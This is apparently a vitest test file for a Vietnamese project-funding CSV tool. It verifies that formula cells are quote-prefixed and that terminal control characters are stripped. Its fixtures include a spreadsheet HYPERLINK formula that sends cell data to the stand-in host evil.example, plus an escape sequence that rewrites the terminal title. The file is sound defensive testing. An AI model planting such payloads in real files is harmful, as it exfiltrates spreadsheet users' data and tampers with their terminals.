// Data that attacks whoever reads the output: a formula cell for the spreadsheet that opens the CSV, escape
// sequences for the terminal that shows the text and the errors.
import { writeFileSync } from 'node:fs';
import { basename, dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cli, scratch } from './inProcess';

const HEADER = 'Mã đề án,Nội dung,Tỉnh/Thành phố,Năm,Nguồn kinh phí,Tổng kinh phí,Kinh phí hỗ trợ';
const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"bấm")';
const ESCAPES = '\u001b[31m\u001b]0;pwned\u0007\u202e';
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this pattern finds
const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function sheet(name: string, id: string): string {
  const file = join(scratch('inject'), name);
  const quoted = `"${id.replace(/"/g, '""')}"`;
  writeFileSync(
    file,
    `${HEADER}\n${quoted},machinery,Phú Yên,2024,local,800000000,190000000\n${quoted},machinery,Phú Yên,2024,local,900000000,-1500000\n`,
  );
  return file;
}

describe('report --format csv: formula cells', () => {
  it('a formula in a đề án id and in a file name is prefixed with a quote; numbers stay numbers', async () => {
    // Named as given on the command line, from its folder: the name starts with `=`.
    const file = sheet(`${FORMULA.replace(/[/"]/g, '_')}.csv`, FORMULA);
    const cwd = process.cwd();
    process.chdir(dirname(file));
    const run = await cli(['report', basename(file), '--format', 'csv', '--skip-invalid']).finally(
      () => process.chdir(cwd),
    );
    expect(run.code).toBe(0);
    const rows = run.stdout.split('\r\n');
    expect(
      rows.some((row) => row.includes(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""bấm"")"`)),
    ).toBe(true);
    expect(
      rows.some((row) =>
        row.startsWith(`"'=HYPERLINK(_http:__evil.example_?d=_&A1,_bấm_).csv",2,1,1,0`),
      ),
    ).toBe(true);
    expect(rows.some((row) => row.includes('"Số tiền ""-1500000"" bị âm'))).toBe(true);
    // No cell of the output starts a formula.
    expect(rows.filter((row) => /(^|,)"?[=+@]/.test(row))).toEqual([]);
  });
});

describe('text output and errors: escape sequences in data', () => {
  it('check: the ids and the file name reach the terminal without their controls', async () => {
    const file = sheet(`de-an${ESCAPES}.csv`, `DA-01${ESCAPES}`);
    const run = await cli(['check', file]);
    expect(run.stdout).toContain('de-an.csv');
    expect(CONTROLS.test(run.stdout)).toBe(false);
    expect(CONTROLS.test(run.stderr)).toBe(false);
  });

  it('report (table): the same; an error naming a missing file keeps no control', async () => {
    const file = sheet(`de-an${ESCAPES}.csv`, `DA-01${ESCAPES}`);
    const run = await cli(['report', file, '--skip-invalid']);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('de-an.csv');
    expect(CONTROLS.test(run.stdout)).toBe(false);
    const missing = await cli(['report', `khong-co${ESCAPES}.csv`]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('khong-co.csv');
    expect(CONTROLS.test(missing.stderr)).toBe(false);
  });
});
